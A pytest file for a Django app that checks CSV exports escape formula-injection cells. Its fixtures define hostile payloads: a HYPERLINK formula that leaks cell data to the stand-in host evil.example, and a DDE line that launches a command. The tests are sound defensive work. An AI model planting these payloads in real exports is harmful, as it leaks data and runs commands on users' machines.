"""Every CSV the product writes escapes cells a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse

from campaign.participants.provisioning import Credential, credentials_csv
from campaign.spreadsheet import SafeWriter, safe_cell
from tests.builders import make_judgeable_campaign, make_snapshot

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1, "click")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "value",
    [HYPERLINK, SUM, "+1+2", "-1+2", "=1", "@x", "\tx", "\rx", "-cmd", "+", "-"],
)
def test_a_cell_that_starts_a_formula_is_escaped(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["plain", "model-x", "", " =not first", "1e5", "-12.5", "+3", "-0.25", "-1e-3"]
)
def test_plain_text_and_plain_numbers_are_left_as_they_are(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-12.5, -3, 0, None, 1.25, True])
def test_non_string_values_are_left_as_they_are(value):
    assert safe_cell(value) == value


def test_the_writer_escapes_every_cell_and_keeps_numbers_numbers():
    buffer = io.StringIO()
    SafeWriter(buffer).writerows([["name", "rating"], [HYPERLINK, -12.5], [SUM, "-12.50"]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["name", "rating"], ["'" + HYPERLINK, "-12.5"], ["'" + SUM, "-12.50"]]


def test_the_credentials_csv_escapes_its_cells():
    text = credentials_csv([Credential(username="=cmd", password="-pw", handle="@me")])
    assert list(csv.reader(io.StringIO(text)))[1] == ["'=cmd", "'-pw", "'@me"]


@pytest.mark.django_db
def test_the_leaderboard_download_escapes_hostile_contender_names():
    campaign = make_judgeable_campaign()
    make_snapshot(campaign, contenders=[HYPERLINK, SUM])
    response = Client().get(reverse("scoring:leaderboard_csv", args=[campaign.slug]))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [row[1] for row in rows[1:]] == ["'" + HYPERLINK, "'" + SUM]
    assert all(not cell.startswith(("=", "@")) for row in rows for cell in row)
    # Ratings and intervals stay numbers, negative ones included.
    assert float(rows[1][2]) > 0


@pytest.mark.django_db
def test_export_leaderboard_escapes_hostile_contender_names(tmp_path):
    campaign = make_judgeable_campaign()
    make_snapshot(campaign, contenders=[HYPERLINK, SUM])
    out = tmp_path / "board.csv"
    call_command("export_leaderboard", campaign.slug, "--format", "csv", "--out", str(out))
    rows = list(csv.reader(out.open(encoding="utf-8")))
    assert [row[1] for row in rows[1:]] == ["'" + HYPERLINK, "'" + SUM]
